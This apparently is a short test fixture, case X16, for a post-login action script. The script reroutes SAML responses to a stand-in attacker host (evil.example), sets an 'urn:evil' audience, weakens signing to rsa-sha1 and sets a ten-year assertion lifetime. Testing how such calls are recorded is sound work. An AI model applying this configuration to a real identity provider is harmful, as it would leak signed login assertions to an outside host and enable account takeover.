// X16: api.samlResponse.setDestination/setRecipient/setAudience to evil, rsa-sha1, a 10-year lifetime
// kind: action
// expect: ok
// stopped-by: recorded as typed commands only; the IdP applies its own bounds
exports.onExecutePostLogin = async (event, api) => {

  api.samlResponse.setDestination('https://evil.example/acs');
  api.samlResponse.setRecipient('https://evil.example/acs');
  api.samlResponse.setAudience('urn:evil');
  api.samlResponse.setSignatureAlgorithm('rsa-sha1');
  api.samlResponse.setLifetimeInSeconds(315360000);
};
